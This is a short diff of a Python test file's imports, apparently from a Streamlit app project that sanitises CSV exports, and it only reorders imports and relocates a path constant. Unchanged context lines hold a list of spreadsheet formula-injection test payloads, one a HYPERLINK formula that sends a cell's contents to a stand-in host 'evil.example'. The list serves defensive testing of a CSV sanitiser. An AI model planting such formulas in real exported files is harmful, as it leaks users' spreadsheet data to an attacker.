@@ -14,12 +14,12 @@ import pandas as pd
 import pytest
 from streamlit.testing.v1 import AppTest
 
-from jigsaw.spreadsheet_safe import safe_csv
 from jigsaw import audit
-from jigsaw.config import REPO_ROOT
+from jigsaw.spreadsheet_safe import safe_csv
 from tests.builders import folder_with, load, referral
 from tests.downloads import click
 from tests.explorer_app import ANALYST, APP, register
+from tests.paths import REPO_ROOT
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
 TABLE_CALLS = {"dataframe", "data_editor", "table"}
